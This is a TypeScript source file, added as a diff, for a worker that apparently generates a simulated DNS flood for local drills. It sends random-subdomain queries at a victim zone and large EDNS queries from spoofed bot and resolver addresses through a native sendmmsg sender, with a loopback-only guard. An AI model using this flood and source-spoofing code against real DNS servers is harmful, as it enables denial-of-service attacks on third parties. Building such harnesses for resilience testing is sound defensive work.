@@ -1,0 +1,264 @@
+/**
+ * One attack sender process (forked by `FloodPool`): random-subdomain queries against the
+ * victim zone from resolver and bot addresses, valid names and large answers from bot
+ * addresses, at the rate the parent sets, through the native sender (sendmmsg, per-datagram
+ * source address) or Node sockets. It stops by itself at its deadline, at its packet budget,
+ * or when the parent goes away. Answers are counted by the kind tag in the ID's top two bits.
+ * @module
+ */
+import { createSocket, type Socket } from 'node:dgram';
+import { type AttackMix, type FloodInit, type FloodMessage, KINDS } from './flood-protocol.js';
+import { COUNTS_PER_KIND, type DrillAddon, loadDrillAddon, NATIVE_BATCH, toNetworkOrder } from './native.js';
+import { wireName, writeQuery } from './packet.js';
+import { botAddress } from './population.js';
+import { ipv4ToNumber, isLoopbackAddress, numberToIpv4 } from './target.js';
+import { hostName, zoneOrigin } from './zones.js';
+
+let init: FloodInit | undefined;
+let rate = 0;
+let mixCdf = [0, 0, 1, 1];
+let phaseStart = 0;
+let phaseSent = 0;
+let behind = 0;
+let total = 0;
+let stopped = false;
+const sent = [0, 0, 0, 0];
+const counts = new Uint32Array(KINDS.length * COUNTS_PER_KIND);
+
+let rng = 0x9e3779b9;
+function rnd(): number {
+  rng ^= rng << 13;
+  rng ^= rng >>> 17;
+  rng ^= rng << 5;
+  return (rng >>> 0) / 4294967296;
+}
+
+// Packet material.
+let victimSuffix: Uint8Array = new Uint8Array(0);
+let validNames: Uint8Array[] = [];
+let bigNames: Uint8Array[] = [];
+const LABEL_CHARS = Uint8Array.from('abcdefghijklmnopqrstuvwxyz0123456789', (c) => c.charCodeAt(0));
+const SLOT = 160;
+const batch = new Uint8Array(NATIVE_BATCH * SLOT);
+const offsets = Uint32Array.from({ length: NATIVE_BATCH }, (_, i) => i * SLOT);
+const lengths = new Uint16Array(NATIVE_BATCH);
+const srcs = new Uint32Array(NATIVE_BATCH);
+const srcHost = new Uint32Array(NATIVE_BATCH);
+const nameBuf = new Uint8Array(256);
+
+/** Writes one attack query of `kind` in slot i; sets its source. */
+function build(i: number, kind: number): void {
+  const cfg = init!;
+  const id = (kind << 14) | Math.floor(rnd() * 16384);
+  let name: Uint8Array;
+  let qtype = 1;
+  let edns: { size: number } | undefined;
+  if (kind === 0 || kind === 1) {
+    nameBuf[0] = 12;
+    for (let j = 1; j <= 12; j++) nameBuf[j] = LABEL_CHARS[Math.floor(rnd() * 36)];
+    nameBuf.set(victimSuffix, 13);
+    name = nameBuf.subarray(0, 13 + victimSuffix.length);
+  } else if (kind === 2) {
+    name = validNames[Math.floor(rnd() * validNames.length)];
+  } else {
+    name = bigNames[Math.floor(rnd() * bigNames.length)];
+    qtype = 16;
+    edns = { size: 4096 };
+  }
+  lengths[i] = writeQuery(batch, i * SLOT, id, name, qtype, edns);
+  const src =
+    kind === 0 && cfg.resolverAddresses.length > 0
+      ? cfg.resolverAddresses[Math.floor(rnd() * cfg.resolverAddresses.length)]
+      : botAddress(Math.floor(rnd() * cfg.bots));
+  srcHost[i] = src;
+  srcs[i] = toNetworkOrder(src);
+}
+
+function pickKind(): number {
+  const u = rnd();
+  for (let k = 0; k < 4; k++) if (u < mixCdf[k]) return k;
+  return 3;
+}
+
+// I/O: native, or Node sockets keyed by source address.
+let addon: DrillAddon | undefined;
+let fd = -1;
+let dstNet = 0;
+const nodeSockets = new Map<number, Socket>();
+let nodeSources: number[] = [];
+
+function sendBatch(n: number): number {
+  const kinds: number[] = [];
+  for (let i = 0; i < n; i++) {
+    const k = pickKind();
+    kinds.push(k);
+    build(i, k);
+  }
+  const cfg = init!;
+  let k = 0;
+  if (addon) {
+    k = addon.send(fd, cfg.family, dstNet, cfg.port, batch, offsets, lengths, srcs, n);
+    if (k < 0) k = 0;
+  } else {
+    for (let i = 0; i < n; i++) {
+      const s = nodeSockets.get(srcHost[i]) ?? nodeSockets.get(nodeSources[i % nodeSources.length]);
+      s?.send(batch.subarray(i * SLOT, i * SLOT + lengths[i]), cfg.port, cfg.host);
+    }
+    k = n;
+  }
+  for (let i = 0; i < k; i++) sent[kinds[i]]++;
+  return k;
+}
+
+function onNodeAnswer(m: Buffer): void {
+  if (m.length < 4) return;
+  const base = (m[0] >> 6) * COUNTS_PER_KIND;
+  counts[base + (m[3] & 15)]++;
+  if (m[2] & 2) counts[base + 16]++;
+  counts[base + 17]++;
+}
+
+function report(type: 'stats' | 'done', reason?: string): void {
+  const msg: FloodMessage = { type, sent: [...sent], counts: [...counts], behind, total, reason };
+  process.send?.(msg);
+}
+
+function stop(reason: string): void {
+  if (stopped) return;
+  stopped = true;
+  if (addon && fd >= 0) {
+    addon.drain(fd, counts, 1_000_000);
+    addon.close(fd);
+  }
+  for (const s of nodeSockets.values()) s.close();
+  report('done', reason);
+  process.disconnect?.();
+  setTimeout(() => process.exit(0), 50).unref();
+}
+
+function loop(): void {
+  if (stopped) return;
+  const cfg = init!;
+  const now = performance.now();
+  if (Date.now() >= cfg.deadline) {
+    stop('deadline');
+    return;
+  }
+  if (addon) addon.drain(fd, counts, 4096);
+  if (rate <= 0) {
+    setTimeout(loop, 5);
+    return;
+  }
+  let due = Math.floor(((now - phaseStart) * rate) / 1000) - phaseSent;
+  const slack = Math.max(256, rate * 0.02);
+  if (due > slack) {
+    // Behind schedule (the sender is slower than the rate): the debt is forgotten, counted.
+    behind += due - slack;
+    phaseSent += due - slack;
+    due = slack;
+  }
+  let budget = Math.min(due, 4096, cfg.maxPackets - total);
+  while (budget > 0) {
+    const n = Math.min(NATIVE_BATCH, budget);
+    const k = sendBatch(n);
+    phaseSent += k;
+    total += k;
+    budget -= k;
+    if (k < n) break;
+  }
+  if (total >= cfg.maxPackets) {
+    stop('packet budget');
+    return;
+  }
+  if (due <= 0) setTimeout(loop, 1);
+  else setImmediate(loop);
+}
+
+async function openNode(cfg: FloodInit): Promise<void> {
+  const v6 = cfg.family === 6;
+  const want: number[] = v6 ? [0] : [];
+  if (!v6) {
+    for (let b = cfg.index; b < Math.min(cfg.bots, 512 * cfg.senders); b += cfg.senders)
+      want.push(botAddress(b));
+    for (const a of cfg.resolverAddresses.slice(0, 256)) want.push(a);
+  }
+  for (const a of want) {
+    const s = createSocket(v6 ? 'udp6' : 'udp4');
+    s.on('message', onNodeAnswer);
+    s.on('error', () => {});
+    await new Promise<void>((res) => s.bind(0, v6 ? '::1' : numberToIpv4(a), () => res()));
+    nodeSockets.set(a, s);
+  }
+  nodeSources = [...nodeSockets.keys()];
+}
+
+process.on('message', async (msg: { type: string } & Record<string, unknown>) => {
+  if (msg.type === 'init') {
+    const cfg = msg as unknown as FloodInit;
+    if (!isLoopbackAddress(cfg.host)) {
+      process.send?.({
+        type: 'done',
+        reason: 'refused: not loopback',
+        sent,
+        counts: [],
+        behind: 0,
+        total: 0,
+      });
+      process.exit(2);
+    }
+    init = cfg;
+    rng = (cfg.seed * 2654435761 + cfg.index + 1) >>> 0 || 1;
+    victimSuffix = wireName(zoneOrigin(cfg.victim));
+    for (let k = 0; k < cfg.zones; k++) {
+      bigNames.push(wireName(`big.${zoneOrigin(k)}`));
+      for (let i = 0; i < Math.min(cfg.names, 2000); i++) validNames.push(wireName(hostName(k, i)));
+    }
+    validNames = validNames.length > 0 ? validNames : [wireName(zoneOrigin(0))];
+    bigNames = bigNames.length > 0 ? bigNames : [wireName(zoneOrigin(0))];
+    const loaded = cfg.io === 'node' ? { reason: '--io node' } : loadDrillAddon();
+    if (loaded.addon) {
+      const f = loaded.addon.open(cfg.family);
+      if (f >= 0) {
+        addon = loaded.addon;
+        fd = f;
+        dstNet = cfg.family === 6 ? 0 : toNetworkOrder(ipv4ToNumber(cfg.host));
+      }
+    }
+    if (!addon) {
+      if (cfg.io === 'native') {
+        process.send?.({
+          type: 'done',
+          reason: `native sender unavailable: ${loaded.reason}`,
+          sent,
+          counts: [],
+          behind: 0,
+          total: 0,
+        });
+        process.exit(2);
+      }
+      await openNode(cfg);
+    }
+    process.send?.({
+      type: 'ready',
+      io: addon ? 'native' : 'node',
+      sources: addon ? cfg.bots + cfg.resolverAddresses.length : nodeSockets.size,
+    });
+    setInterval(() => report('stats'), 200).unref();
+    loop();
+  } else if (msg.type === 'rate') {
+    // The counters as the rate changes: the parent's phase boundary.
+    if (addon) addon.drain(fd, counts, 1_000_000);
+    report('stats', 'rate');
+    rate = Number(msg.rate);
+    const mix = msg.mix as AttackMix;
+    const w = KINDS.map((k) => Math.max(0, mix[k] ?? 0));
+    const sum = w.reduce((a, b) => a + b, 0) || 1;
+    let acc = 0;
+    mixCdf = w.map((x) => (acc += x / sum));
+    phaseStart = performance.now();
+    phaseSent = 0;
+  } else if (msg.type === 'stop') {
+    stop('stopped');
+  }
+});
+process.on('disconnect', () => stop('parent gone'));
